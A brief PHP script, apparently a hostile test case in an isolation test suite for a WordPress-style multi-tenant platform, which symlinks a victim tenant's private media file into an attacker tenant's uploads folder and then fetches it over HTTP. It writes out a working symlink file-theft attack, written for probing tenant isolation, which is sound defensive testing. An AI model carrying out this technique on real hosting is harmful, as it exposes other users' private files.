<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

symlink(target()['victim']['media'] . '/private.txt', target()['attacker']['media'] . '/stolen.txt');
echo get(target()['attacker']['host'], '/wp-content/uploads/stolen.txt');
